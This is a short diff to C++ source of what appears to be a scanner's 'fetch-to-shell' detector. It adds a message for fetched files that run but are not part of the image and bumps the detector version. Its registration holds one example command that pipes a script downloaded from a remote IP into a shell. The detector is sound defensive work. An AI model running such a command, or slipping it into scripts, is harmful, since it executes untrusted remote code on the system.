@@ -47,6 +47,8 @@ std::string describe(const ShellFlow& flow) {
   switch (flow.kind) {
     case FlowKind::fetch_to_interpreter: return from + " | " + flow.interpreter;
     case FlowKind::fetch_to_file_run:
+      if (flow.interpreter.empty() && !flow.urls.empty() && flow.urls.front() == flow.path)
+        return flow.tool + " runs " + flow.path + ", which is not part of this image";
       return from + " to " + flow.path + ", then run" + with + (flow.verified ? ", checked before" : "");
     default: return from + " to " + flow.path;
   }
@@ -82,7 +84,7 @@ class FetchToShell final : public Detector {
 
 const util::Registered<FetchToShell> registered{{
     .id = "fetch-to-shell",
-    .version = 1,
+    .version = 2,
     .summary = "code fetched and run by scripts and start commands",
     .example = "curl -s http://192.0.2.1/x.sh | sh",
     .rules = k_rows,
